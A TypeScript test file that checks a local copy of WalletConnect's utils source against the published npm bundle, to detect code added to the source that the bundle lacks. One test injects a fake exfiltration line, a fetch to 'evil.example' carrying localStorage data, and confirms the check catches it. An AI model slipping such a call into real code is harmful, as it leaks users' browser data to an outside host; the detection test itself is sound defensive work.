import { readFileSync } from 'node:fs'
import { createRequire } from 'node:module'
import { pathToFileURL } from 'node:url'
import ts from 'typescript'
import { describe, expect, it } from 'vitest'
import { compareWithBundle } from './same-source.ts'
import { readSource } from './utils.ts'

const require = createRequire(createRequire(import.meta.url).resolve('@walletconnect/sign-client'))

/** The names of the values that a file exports. */
const exported = (code: string): readonly string[] => {
  const { outputText } = ts.transpileModule(code, { compilerOptions: { target: ts.ScriptTarget.ES2022 } })
  const declared = [...outputText.matchAll(/^export (?:async )?(?:const|function|class|let) (\w+)/gm)]
  return declared.map(([, name = '']) => name)
}

describe('readSource', () => {
  it('behavior: exports what the bundle exports, and every file that it names is there', async () => {
    const source = readSource()
    const index = source.get('index') ?? ''
    const files = [...index.matchAll(/from "\.\/(\w+)"/g)].map(([, name = '']) => name)
    expect(files.length).toBeGreaterThan(10)
    const names = files.flatMap((name) => exported(source.get(name) ?? ''))
    const bundle = await import(pathToFileURL(require.resolve('@walletconnect/utils')).href)
    const theirs = Object.keys(bundle).filter((name) => name !== 'default' && name !== 'module.exports')
    expect([...new Set(names)].sort()).toEqual(theirs.sort())
  })

  const bundle = readFileSync(
    require.resolve('@walletconnect/utils').replace('index.cjs.js', 'index.es.js'),
    'utf8',
  )
  const script = (code: string) =>
    ts.transpileModule(code, {
      compilerOptions: { target: ts.ScriptTarget.ESNext, module: ts.ModuleKind.ESNext },
    }).outputText
  const files = [...readSource()].filter(([name]) => name !== 'index')

  it.each(files)('attack: all of %s is in the published bundle, in its order', (_, code) => {
    const { missing, stretches } = compareWithBundle(script(code), bundle)
    expect(missing).toEqual([])
    // Minifiers merge and move some statements.
    expect(stretches.length).toBeLessThanOrEqual(10)
  })

  it('attack: a line more in the source than in the bundle is found', () => {
    const [, code = ''] = files.find(([name]) => name === 'crypto') ?? []
    const { missing } = compareWithBundle(
      `${script(code)}\nfetch('https://evil.example/' + localStorage.length)`,
      bundle,
    )
    expect(missing).toContain('"https://evil.example/"')
  })
})
